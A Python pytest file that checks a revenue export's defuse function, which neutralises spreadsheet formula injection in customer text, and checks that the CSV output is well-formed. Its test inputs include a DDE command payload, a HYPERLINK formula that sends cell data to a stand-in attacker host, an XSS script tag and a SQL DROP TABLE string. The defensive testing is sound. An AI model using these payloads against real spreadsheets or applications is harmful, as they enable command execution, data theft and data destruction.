"""No text of a customer's becomes a formula in a spreadsheet; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from revenue_intel.exports.writers import defuse
from tests.factories_facts import paid, person

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0\u3000=1+1",
    "\ufeff=1+1",
    " \u200b =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\tplain",
    "\ufeff\rplain",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert defuse(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "Mug", "a=b", "ada+shop@example.com", "5 - 3", "'quoted", " plain", "Größe", "🤑"]
)
def test_other_text_stays_as_it_is(text):
    assert defuse(text) == text


@pytest.mark.django_db
@pytest.mark.parametrize(
    "text", [*PAYLOADS, 'a,"b"\r\nc', "<script>alert(1)</script>", "'; DROP TABLE x; --"]
)
def test_text_comes_back_from_the_file_as_it_went_in_but_for_the_apostrophe(rows, text):
    paid(10_00, on="2026-03-01", by=person(text), reference=text, lines=[("p", text, 1, 10_00)])

    (order,), (product,), (customer,) = rows("orders"), rows("products"), rows("customers")

    assert {order["OrderID"], order["Email"], product["Product"], customer["Email"]} == {defuse(text)}


@pytest.mark.django_db
def test_a_negative_number_stays_a_number(rows):
    paid(10_00, on="2026-03-01", lines=[("p", "Voucher", 1, -5_00)])

    assert rows("products")[0]["Revenue"] == "-5.00"


@pytest.mark.django_db
def test_the_file_is_rfc_4180_in_utf_8(make):
    paid(10_00, on="2026-03-01", lines=[("p", 'Größe "L", blau', 1, 10_00)])

    text = make("products").file.read()

    assert text == 'Product,Units,Revenue\r\n"Größe ""L"", blau",1,10.00\r\n'.encode()
    assert list(csv.reader(io.StringIO(text.decode(), newline=""), strict=True))[1][0] == 'Größe "L", blau'
